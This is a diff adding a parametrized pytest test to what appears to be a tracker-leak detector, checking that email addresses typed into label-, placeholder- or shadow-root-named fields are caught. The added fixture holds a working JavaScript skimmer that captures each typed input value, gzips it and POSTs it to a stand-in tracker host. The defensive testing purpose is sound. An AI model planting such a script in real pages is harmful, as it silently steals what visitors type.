@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from typing import Any
 
+import pytest
+
 TRACKER = "https://stats.traceur-essai.test/"
 HOME = "https://www.outil-essai.test/"
 AGENT = "Essai/1 (+https://preau.example/robot)"
@@ -170,6 +172,26 @@ def test_what_is_typed_and_never_submitted_is_seen_to_leave(stage: Any) -> None:
     assert leaks == {"h.gif": ("email-hash",), "c": ("email",)}
     assert "form-recording" in {act.kind for act in run.behaviours}
     assert not [one for one in seen.requests if one.path == "/entrer"]
+
+
+FIELDS = {
+    "named by its label": '<label>Adresse électronique <input name="a" id="a"></label>',
+    "named by what it shows": '<input name="a" placeholder="E-mail">',
+    "in a shadow root": """<x-form></x-form><script>customElements.define("x-form", class extends HTMLElement {
+  connectedCallback() { this.attachShadow({ mode: "open" }).innerHTML = '<input type="email">'; } });</script>""",
+}
+
+
+@pytest.mark.parametrize("field", FIELDS)
+def test_a_field_for_an_address_is_found_by_what_names_it(stage: Any, field: str) -> None:
+    spy = f"""<script>addEventListener("input", async (e) => {{
+  const packed = new Blob([e.composedPath()[0].value]).stream().pipeThrough(new CompressionStream("gzip"));
+  fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: await new Response(packed).arrayBuffer() }});
+}});</script>"""
+    stage.tool({"index.html": "<h1>Outil</h1>", "inscription.html": f"<h1>Inscription</h1>{FIELDS[field]}{spy}"})
+    stage.tracker()
+    seen = stage.look([("inscription", "signup", "learner")], phases=("before-choice",))
+    assert "email" in {kind for one in seen.run("before-choice").requests for kind in one.leaks}
 
 
 def test_what_a_log_in_page_keeps_is_its_own_and_not_the_showcases(stage: Any) -> None:
